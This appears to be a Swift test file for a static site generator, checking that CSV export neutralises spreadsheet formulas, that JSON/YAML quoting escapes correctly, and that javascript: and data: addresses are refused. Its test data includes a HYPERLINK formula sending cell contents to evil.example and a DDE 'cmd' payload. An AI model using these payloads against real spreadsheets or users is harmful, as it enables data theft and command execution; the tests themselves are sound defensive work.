import Content
import Foundation
import Testing

@testable import Site

/// Content that would turn the published site against its readers is neutralised or refused.
@Suite struct UnsafeInputTests {
    @Test(arguments: [
        ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"), ("\rx", "'\rx"),
        ("-12", "-12"), ("+3.5", "+3.5"), ("-", "-"), ("東京都", "東京都"), ("", ""), ("a=b", "a=b"),
    ])
    func spreadsheetFormulasAreNeutralisedInCSV(cell: String, published: String) {
        #expect(DatasetExports.spreadsheetSafe(cell) == published)
    }

    /// A JSON string is the YAML quoting, with JSON's escapes only, whether or not it needs escaping
    /// (text with nothing to escape takes a shorter way there).
    @Test(arguments: [
        ("東京都", #""東京都""#), ("", #""""#), ("a\"b", #""a\"b""#), ("a\\b", #""a\\b""#), ("行1\n行2", #""行1\n行2""#),
        ("\t", #""\t""#), ("\u{1}", #""\u0001""#), ("𠮷\u{301}", "\"𠮷\u{301}\""), ("</script>", #""</script>""#),
    ])
    func jsonStringsAreQuotedAsYAML(_ text: String, _ quoted: String) {
        #expect(JSONText.string(text) == quoted)
        #expect(YAMLText.quote(text) == quoted)
    }

    @Test(arguments: ["javascript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,x", "//evil.example/", "https://a b/"])
    func editAndBaseAddressesMustBeWebAddresses(_ address: String) throws {
        let site = try FixtureSite([
            "content/pages/a.md": "---\ntitle: A\n---\n本文", "content/site.yaml": "edit_url: \"\(address)\"\n",
        ])
        #expect {
            try site.build()
        } throws: { error in
            String(describing: error).hasPrefix("site.yaml:1: edit_url must be an absolute http(s) URL")
        }
        try site.folder.write(["content/site.yaml": "title: 資料\n"])
        var options = site.options
        options.baseURL = address
        #expect {
            try SiteBuilder(options: options).build()
        } throws: { error in
            String(describing: error).hasPrefix("--base-url: --base-url must be an absolute http(s) URL")
        }
        #expect(!FileManager.default.fileExists(atPath: site.output.path))
    }
}
